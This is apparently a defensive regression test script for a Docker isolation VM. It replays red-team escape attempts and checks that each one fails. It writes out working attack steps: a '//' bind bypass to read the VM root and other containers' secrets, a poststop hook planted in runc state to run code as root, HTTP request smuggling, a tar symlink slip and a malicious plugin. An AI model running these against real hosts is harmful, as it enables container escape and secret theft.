#!/bin/bash
# The red team of 2026-12-08 (issue 14): every attempt made on the image
# users boot with only the docker CLI and raw HTTP on the host socket, one TAP
# line each, asserting the refusal's rule or the real confinement effect.
# Needs: gcc (static), python3, curl on the host.
. "$(dirname "$0")/lib.sh"
require_image
vm_lock

check "ecivm up" "$ECIVM" up --accel=tcg
docker import "$BB_TAR" bb >/dev/null || bail "docker import failed"

S=$DOCKER_SOCK
api() { curl -sS --unix-socket "$S" -X "$1" -H 'Content-Type: application/json' "http://x$2" "${@:3}"; }
put_tar() { curl -sS --unix-socket "$S" -X PUT -H 'Content-Type: application/x-tar' --data-binary "@$2" "http://x/containers/$1/archive?path=$3" -o /dev/null -w '%{http_code}'; }
# expect DESC PATTERN OUTPUT: ok when OUTPUT matches PATTERN
expect() { if grep -qE -- "$2" <<<"$3"; then ok "$1"; else not_ok "$1"; sed 's/^/# /' <<<"$3" | head -5; fi; }
# expect_not DESC PATTERN OUTPUT: ok when OUTPUT does NOT match PATTERN
expect_not() { if grep -qE -- "$2" <<<"$3"; then not_ok "$1"; sed 's/^/# /' <<<"$3" | head -5; else ok "$1"; fi; }

# ---- helper binaries (static, copied into images / the VM) ----
mkdir -p "$T/src/t" "$T/st"
cat >"$T/src/pwn.c" <<'EOF'
#include <stdio.h>
#include <unistd.h>
#include <fcntl.h>
#include <dirent.h>
static void cat(FILE *o, const char *p){ char b[4096]; int f=open(p,O_RDONLY); if(f<0){fprintf(o,"(cannot open %s)\n",p);return;} int n=read(f,b,sizeof b-1); close(f); if(n<0)n=0; for(int i=0;i<n;i++) if(b[i]==0) b[i]=' '; b[n]=0; fprintf(o,"%s: %s\n",p,b); }
int main(int argc,char**argv){
  FILE *o=fopen(argc>1?argv[1]:"/var/lib/docker/hook-out.txt","w"); if(!o) return 1;
  fprintf(o,"uid=%d euid=%d gid=%d\n",getuid(),geteuid(),getgid());
  cat(o,"/proc/self/status"); cat(o,"/proc/1/cmdline"); cat(o,"/proc/self/uid_map");
  DIR *d=opendir("/dev/virtio-ports"); struct dirent *e; fprintf(o,"/dev/virtio-ports:"); while(d&&(e=readdir(d))) fprintf(o," %s",e->d_name); fprintf(o,"\n");
  fclose(o); return 0; }
EOF
gcc -static -O1 -o "$T/src/t/pwn" "$T/src/pwn.c" || bail "gcc -static failed"

# ================= FINDINGS (fail today) =================

# F1: the filter cleans "/" but not "//": a bind of the VM's whole root is created
out=$(api POST '/containers/create?name=f1' -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"Binds":["//:/h"]}}' -w ' %{http_code}')
expect "F1a: bind //:/h refused at create (403 ecivm: mounting / is not allowed)" '403$' "$out"

# F1: docker cp on a created (never started) container follows its binds as the VM's root: read
out=$(docker cp f1:/h/etc/docker/daemon.json - 2>&1 | tar -xO 2>&1)
expect_not "F1b: docker cp cannot read the VM's /etc/docker/daemon.json through a bind" '"data-root":"/var/lib/docker"' "$out"
out=$(curl -sS --unix-socket "$S" -I "http://x/containers/f1/archive?path=/h/usr/libexec/ecivm/runc" 2>&1)
expect_not "F1c: archive HEAD cannot stat the real runc /usr/libexec/ecivm/runc" '^HTTP/1.1 200' "$out"

# F1: other containers' secrets from /var/lib/docker/containers (plain bind, no trick needed)
docker run -d --name victim -e SECRET=hunter2 bb sleep 600 >/dev/null
VID=$(docker inspect -f '{{.Id}}' victim)
docker create --name f1d -v /var/lib/docker:/h bb true >/dev/null 2>&1
out=$(docker cp "f1d:/h/containers/$VID/config.v2.json" - 2>&1 | tar -xO 2>&1)
expect_not "F1d: docker cp cannot read another container's config.v2.json (env secrets)" 'SECRET=hunter2' "$out"

# F1: write as the VM's root into /run, /var/lib/docker, /data
echo "written-by-attacker" >"$T/src/pwned.txt"
tar -C "$T/src" -cf "$T/pwned.tar" pwned.txt
for d in /h/run /h/var/lib/docker /h/data; do
        code=$(put_tar f1 "$T/pwned.tar" "$d")
        expect_not "F1e: PUT archive cannot write into the VM's ${d#/h}" '^200$' "$code"
done

# F2: VM root code execution: poststop hook added to the real runc's state.json
docker run -d --name f2victim bb sleep 600 >/dev/null
VID2=$(docker inspect -f '{{.Id}}' f2victim)
docker cp "f1:/h/run/docker/runtime-runc/moby/$VID2/state.json" - | tar -x -C "$T/st"
python3 -c '
import json,sys; p=sys.argv[1]; d=json.load(open(p))
d["config"]["Hooks"]["poststop"]=[{"path":"/var/lib/docker/pwn","args":["pwn","/var/lib/docker/f2-hook-out.txt"],"env":None,"dir":"","timeout":None}]
json.dump(d,open(p,"w"))' "$T/st/state.json"
tar --owner=0 --group=0 -C "$T/src/t" -cf "$T/pwn.tar" pwn
tar --owner=0 --group=0 --mode=0600 -C "$T/st" -cf "$T/state.tar" state.json
put_tar f1 "$T/pwn.tar" /h/var/lib/docker >/dev/null
put_tar f1 "$T/state.tar" "/h/run/docker/runtime-runc/moby/$VID2" >/dev/null
docker stop -t 1 f2victim >/dev/null
out=$(docker cp f1:/h/var/lib/docker/f2-hook-out.txt - 2>&1 | tar -xO 2>&1)
expect_not "F2: no code runs as the VM's root (poststop hook planted in runc state.json)" '^uid=0 euid=0' "$out"
expect_not "F2b: ... with full capabilities in the VM's user namespace" '/proc/self/uid_map: +0 +0 +4294967295' "$out"

# F1: the same "//" prefix once passed the engine-socket rule at create
out=$(api POST /containers/create -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"Binds":["//var/run/docker.sock:/s"]}}' -w ' %{http_code}')
expect "F1f: bind //var/run/docker.sock refused at create by the host filter (403)" '403$' "$out"
out=$(api POST /containers/create -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"Mounts":[{"Type":"bind","Source":"//","Target":"/h"}]}}' -w ' %{http_code}')
expect "F1g: Mounts bind Source // refused at create (403)" '403$' "$out"
out=$(docker run --rm -v //var/run/docker.sock:/s bb ls -l /s 2>&1)
expect "docker run -v //var/run/docker.sock: refused at create, the path cleaned" "ecivm: mounting //var/run/docker.sock is not allowed: the engine's sockets can only be mounted into allow-listed images" "$out"

# F1: the deprecated copy endpoint (API < 1.24) is a second archive door
out=$(curl -sS --unix-socket "$S" -X POST -H 'Content-Type: application/json' http://x/v1.23/containers/f1d/copy -d '{"Resource":"/h/containers"}' 2>&1 | tar -t 2>&1 | head -50)
expect_not "F1h: POST /v1.23/containers/X/copy cannot list /var/lib/docker/containers" 'config\.v2\.json' "$out"

# F3: legacy start body (API < 1.24) carries a HostConfig the filter never reads
docker create --name a1 bb true >/dev/null
out=$(api POST /v1.23/containers/a1/start -d '{"Binds":["/:/host"],"PidMode":"host","Privileged":true}' -w ' %{http_code}')
expect "F3: legacy start body with PidMode=host refused by the host filter (400)" 'ecivm: a container start with a body is not allowed: dockerd would apply its HostConfig past the create rules.* 400$' "$(tr -d '\n' <<<"$out")"
out=$(docker inspect -f '{{.HostConfig.Binds}} {{.HostConfig.PidMode}}' a1)
expect_not "F3b: legacy start body does not store Binds [/:/host] / PidMode host" '\[/:/host\] host' "$out"

# F4: the user-ID allocator's file can be corrupted through F1: no container starts any more
mkdir -p "$T/r"
docker cp f1:/h/data/ecivm-runc/ranges - | tar -x -C "$T/r"
cp "$T/r/ranges" "$T/r/ranges.orig"
sed -i '1s/.*/ecivm-runc-ranges 1 0 65536/' "$T/r/ranges"
tar --owner=0 --group=0 --mode=0600 -C "$T/r" -cf "$T/r.tar" ranges
put_tar f1 "$T/r.tar" /h/data/ecivm-runc >/dev/null
out=$(docker run --rm bb true 2>&1)
expect_not "F4: a user cannot make every start fail (ranges file corrupt)" 'ranges is corrupt' "$out"
cp "$T/r/ranges.orig" "$T/r/ranges" && tar --owner=0 --group=0 --mode=0600 -C "$T/r" -cf "$T/r.tar" ranges
put_tar f1 "$T/r.tar" /h/data/ecivm-runc >/dev/null

# C18: a rewritten /run/ecivm/eci.json (through F1) does not give the socket to bb
printf '{"dockerSocketMount":{"imageList":{"allowDerivedImages":true,"images":["bb:*","bb:latest","bb"]}}}' >"$T/eci.json"
tar --owner=0 --group=0 --mode=0600 -C "$T" -cf "$T/eci.tar" eci.json
put_tar f1 "$T/eci.tar" /h/run/ecivm >/dev/null
out=$(docker run --rm -v //var/run/docker.sock:/var/run/docker.sock bb ls -l /var/run/docker.sock 2>&1)
expect "tampered eci.json (unreachable now) does not grant the engine socket" "ecivm: mounting //var/run/docker.sock is not allowed: the engine's sockets can only be mounted into allow-listed images" "$out"
printf '{"dockerSocketMount":{"imageList":{"allowDerivedImages":false,"images":[]}}}' >"$T/eci.json"
tar --owner=0 --group=0 --mode=0600 -C "$T" -cf "$T/eci.tar" eci.json
put_tar f1 "$T/eci.tar" /h/run/ecivm >/dev/null

# F5: the security report said Yes while F1/F2 held: its probes now count
# only a refusal at create, and every one is refused there
out=$("$ECIVM" security-report 2>&1)
expect "F5: security report: 'Linux VM protected from user access' Yes, on refusals at create" 'Linux VM protected from user access +Yes' "$out"
expect_not "F5: security report: no probe counted as refused only at start" 'refused only at start' "$out"

# ================= REFUSED / CONFINED (pass today) =================
out=$(docker run --rm --pid=host bb true 2>&1)
expect "--pid=host refused" 'ecivm: --pid=host is not allowed: containers cannot share namespaces with the VM' "$out"
out=$(docker run --rm --userns=host bb true 2>&1)
expect "--userns=host refused" 'ecivm: --userns=host is not allowed' "$out"
out=$(api POST /containers/create -d '{"Image":"bb","Cmd":["true"],"hostconfig":{"PidMode":"host"}}')
expect "lower-case hostconfig refused" 'ecivm: the key hostconfig is not allowed: dockerd reads it as HostConfig' "$out"
out=$(api POST /containers/create -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"Networ\u212aMode":"host"}}')
expect "Kelvin-sign NetworkMode refused" 'dockerd reads it as HostConfig.NetworkMode' "$out"
out=$(api POST /containers/create -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"PidMode":"","PidMode":"host"}}')
expect "duplicate PidMode refused" 'gives the key PidMode twice in one object' "$out"
out=$(printf '{"Image":"bb","Cmd":["true"],"HostConfig":{"PidMode":"host"}}' | curl -sS --unix-socket "$S" -X POST -H 'Content-Type: application/json' -H 'Transfer-Encoding: chunked' --data-binary @- http://x/containers/create)
expect "chunked body with PidMode=host refused" 'ecivm: --pid=host is not allowed' "$out"
out=$(api POST '/v1.41/%63ontainers//create' -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"PidMode":"host"}}')
expect "percent-encoded, double-slash path refused" 'ecivm: --pid=host is not allowed' "$out"
out=$(api POST /v1.12/containers/create -d '{"Image":"bb","Cmd":["true"],"Binds":["//:/h"],"PidMode":"host"}')
expect "top-level (legacy) Binds refused" 'ecivm: the key Binds is not allowed outside HostConfig' "$out"
out=$(docker volume create -o type=none -o o=bind -o device=/var/lib/docker v9 2>&1)
expect "bind volume refused" 'ecivm: volume driver option device=/var/lib/docker is not allowed' "$out"
out=$(docker run --rm --mount 'type=volume,src=v10,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/' bb true 2>&1)
expect "--mount volume-opt bind refused" 'ecivm: volume driver option device=/ is not allowed' "$out"
out=$(docker volume create -o type=tmpfs -o device=tmpfs -o o=size=1m,exec v30 2>&1)
expect "tmpfs volume o=exec refused" 'ecivm: volume driver option o=exec is not allowed' "$out"
out=$(docker volume create -o TYPE=none -o O=bind -o DEVICE=/ v31 2>&1)
expect "upper-case volume options refused" 'ecivm: volume driver option DEVICE=/ is not allowed' "$out"
out=$(api POST /volumes/create -d '{"Name":"v31b","Driver":"Local","DriverOpts":{"type":"none","o":"bind","device":"/"}}')
expect "driver 'Local' refused" 'ecivm: volume driver Local is not allowed' "$out"
out=$(docker run --rm --volume-driver=evil -v x1:/x bb true 2>&1)
expect "--volume-driver refused" 'ecivm: volume driver evil is not allowed' "$out"
out=$(docker run --rm -v /:/host bb true 2>&1)
expect "-v /:/host refused" 'ecivm: mounting / is not allowed' "$out"
out=$(docker run --rm -v /var/run/docker.sock:/s bb true 2>&1)
expect "engine socket bind refused" 'ecivm: mounting /var/run/docker.sock is not allowed' "$out"
out=$(api POST '/containers/create?name=bv31' -d '{"Image":"bb","Cmd":["true"],"HostConfig":{"Binds":["/run/docker/runtime-runc:/h"]}}')
expect "bind of runc's state dir refused at create" 'ecivm: mounting /run/docker/runtime-runc is not allowed' "$out"
out=$(docker run --rm --device /dev/vda bb true 2>&1)
expect "--device refused" 'ecivm: --device is not allowed' "$out"
docker run -d --name a18 bb sleep 600 >/dev/null
out=$(api POST /containers/a18/update -d '{"Devices":[{"PathOnHost":"/dev/vda","PathInContainer":"/dev/vda","CgroupPermissions":"rwm"}]}')
expect "update Devices refused" 'ecivm: --device is not allowed' "$out"
api POST '/containers/create?name=a14' -d '{"Image":"bb","Cmd":["cat","/proc/sys/kernel/panic"],"HostConfig":{"Sysctls":{"kernel.panic":"5"}}}' >/dev/null
out=$(docker start -a a14 2>&1)
expect "non-namespaced sysctl refused by the runtime" 'ecivm: sysctl kernel.panic is not allowed: it is not namespaced' "$out"
out=$(docker run --rm --oom-score-adj=-1000 bb true 2>&1)
expect "--oom-score-adj=-1000 refused" 'ecivm: --oom-score-adj=-1000 is not allowed' "$out"
docker create --name a15 bb ls -l /dev/vda >/dev/null
out=$(api POST /v1.23/containers/a15/start -d '{"Devices":[{"PathOnHost":"/dev/vda","PathInContainer":"/dev/vda","CgroupPermissions":"rwm"}]}' -w ' %{http_code}')
expect "legacy start Devices: a start with a body refused (400)" 'ecivm: a container start with a body is not allowed.* 400$' "$(tr -d '\n' <<<"$out")"
out=$(docker run --rm --pid=container:victim bb ps 2>&1)
expect "--pid=container:victim: proc mount refused by the kernel" 'mount proc:/proc .*operation not permitted' "$out"
out=$(docker run --rm --network=container:victim bb true 2>&1)
expect "--network=container:victim refused by the runtime" 'resolv.conf is not allowed: it belongs to another container' "$out"
docker run -d --name v26 --ipc=shareable bb sh -c 'echo shmsecret > /dev/shm/s; sleep 600' >/dev/null
out=$(docker run --rm --ipc=container:v26 bb cat /dev/shm/s 2>&1)
expect "--ipc=container:v26 fails (mqueue mount EPERM), no shm read" 'mount mqueue.*operation not permitted' "$out"
out=$(docker exec --privileged victim cat /proc/self/uid_map 2>&1)
expect "exec --privileged stays in the container's ID range" '^ +0 +[1-9][0-9]{5,} +65536' "$out"
out=$(docker run --rm --privileged bb sh -c 'mkdir -p /m; mount -t proc p /m; echo h > /m/sysrq-trigger; echo "|/x" > /m/sys/kernel/core_pattern' 2>&1)
expect "privileged: fresh procfs sysrq-trigger and core_pattern not writable" 'can.t create /m/sysrq-trigger: Permission denied' "$out"
out=$(docker run --rm --security-opt systempaths=unconfined bb grep -E 'kcore' /proc/self/mountinfo 2>&1)
expect "systempaths=unconfined: /proc/kcore still masked" '/null /proc/kcore' "$out"
out=$(docker run --rm --runtime=io.containerd.runc.v2 bb cat /proc/self/uid_map 2>&1)
expect "--runtime=io.containerd.runc.v2 still in an ID range" '^ +0 +[1-9][0-9]{5,} +65536' "$out"
out=$(docker run --rm --cgroup-parent=/ bb sh -c 'ls /sys/fs/cgroup | grep -c cgroup.freeze' 2>&1)
expect "--cgroup-parent=/ does not give the VM's root cgroup (cgroup.freeze exists only below the root)" '^1$' "$out"
out=$(printf 'FROM bb\nRUN true\n' | DOCKER_BUILDKIT=0 docker build --network=host - 2>&1)
expect "classic build --network=host refused" 'ecivm: docker build --network=host is not allowed' "$out"
mkdir -p "$T/ctx" && ln -sfn / "$T/ctx/rootlink"
printf 'FROM bb\nRUN --mount=type=bind,source=rootlink,target=/r ls /r\n' >"$T/ctx/Dockerfile"
out=$(DOCKER_BUILDKIT=1 docker build --progress=plain --no-cache "$T/ctx" 2>&1)
expect "BuildKit bind of a context symlink to / refused by the runtime" 'ecivm: mounting /var/lib/docker/tmp/buildkit-mount[0-9]+ is not allowed' "$out"
printf 'FROM bb\nRUN --mount=type=cache,target=/c cat /proc/self/uid_map\n' >"$T/ctx/Dockerfile"; rm -f "$T/ctx/rootlink"
out=$(DOCKER_BUILDKIT=1 docker build --progress=plain --no-cache "$T/ctx" 2>&1)
expect "BuildKit cache-mount step runs in an ID range" '0 +[1-9][0-9]{5,} +65536' "$out"
mkdir -p "$T/plug/rootfs"; docker create --name plugsrc bb true >/dev/null; docker export plugsrc | tar -C "$T/plug/rootfs" -x
cat >"$T/plug/config.json" <<'EOF'
{"description":"x","documentation":"x","interface":{"types":["docker.volumedriver/1.0"],"socket":"p.sock"},"entrypoint":["/bin/sh","-c","sleep 1000"],"mounts":[{"source":"/","destination":"/h","type":"bind","options":["rbind","rw"]}],"linux":{"capabilities":["CAP_SYS_ADMIN"],"allowAllDevices":true},"network":{"type":"host"}}
EOF
docker plugin create evilplug "$T/plug" >/dev/null 2>&1
out=$(docker plugin enable evilplug 2>&1)
expect "managed plugin (bind of /, host network): refused at the host socket" 'ecivm: POST /plugins/... is not allowed: swarm mode and engine plugins are not available in the VM' "$out"
docker run --name a14s bb sh -c 'ln -s / /esc' >/dev/null 2>&1
out=$(docker cp a14s:/esc/etc/passwd - 2>&1 | tar -xO 2>&1)
expect "container-planted symlink / is scoped by docker cp (image passwd, not the VM's)" 'root:x:0:0:root:/root:/bin/sh' "$out"
python3 - "$T/evil.tar" <<'EOF'
import tarfile, io, sys
t=tarfile.open(sys.argv[1],'w')
i=tarfile.TarInfo('esc'); i.type=tarfile.SYMTYPE; i.linkname='/var/lib/docker'; t.addfile(i)
d=b'pwned-by-import\n'
i=tarfile.TarInfo('esc/import-pwned.txt'); i.size=len(d); t.addfile(i, io.BytesIO(d))
t.close()
EOF
out=$(docker import "$T/evil.tar" evilimg 2>&1)
expect "import of a tar writing through a symlink fails inside the chroot" 'open /esc/import-pwned.txt: no such file or directory' "$out"
out=$(curl -sS --unix-socket "$S" -X PUT -H 'Content-Type: application/x-tar' --data-binary @"$T/evil.tar" "http://x/containers/a18/archive?path=/")
expect "PUT archive of the same tar into a container fails inside the chroot" 'open /esc/import-pwned.txt: no such file or directory' "$out"
out=$(printf 'FROM bb\nRUN cat /etc/resolv.conf\n' | DOCKER_BUILDKIT=0 docker build --network=container:a18 - 2>&1)
expect "classic build --network=container:X refused by the runtime" 'resolv.conf is not allowed: it belongs to another container' "$out"
printf 'FROM bb\nRUN true\n' >"$T/Df"; tar -C "$T" -cf "$T/ctx.tar" Df
out=$(curl -sS --unix-socket "$S" -X POST -H 'Content-Type: application/x-tar' --data-binary @"$T/ctx.tar" 'http://x/build?dockerfile=Df&networkmode=HOST&q=1')
expect "build networkmode=HOST (upper case) refused" 'ecivm: docker build --network=host is not allowed' "$out"
smuggle() {
        python3 - "$S" "$1" <<'EOF'
import socket, sys
S, mode = sys.argv[1], sys.argv[2]
bad=b'{"Image":"bb","Cmd":["true"],"HostConfig":{"PidMode":"host"}}'
good=b'{"Image":"bb","Cmd":["true"]}'
if mode=='clte':
    raw=b'POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n'%len(good)+b'%x\r\n%s\r\n0\r\n\r\n'%(len(bad),bad)
else:
    raw=b'GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n'+b'POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s'%(len(bad),bad)
s=socket.socket(socket.AF_UNIX); s.connect(S); s.sendall(raw); s.settimeout(20); out=b''
try:
    while True:
        d=s.recv(65536)
        if not d: break
        out+=d
except Exception: pass
print(out.decode(errors='replace'))
EOF
}
expect "Content-Length + Transfer-Encoding refused" 'ecivm: malformed HTTP: both Content-Length and Transfer-Encoding' "$(smuggle clte)"
expect "pipelined second request with PidMode=host refused" 'ecivm: --pid=host is not allowed' "$(smuggle pipe)"
out=$(docker run --rm --log-driver=syslog --log-opt syslog-address=unix:///run/containerd/containerd.sock bb echo hi 2>&1)
expect "syslog log driver to containerd's socket: only container output, nothing reached" '^hi$' "$out"
out=$(docker swarm init --advertise-addr 127.0.0.1 --listen-addr 127.0.0.1:2377 2>&1)
expect "swarm init refused at the host socket, so no services/secrets path" 'ecivm: POST /swarm/... is not allowed: swarm mode and engine plugins are not available in the VM' "$out"

check "ecivm down" "$ECIVM" down
finish
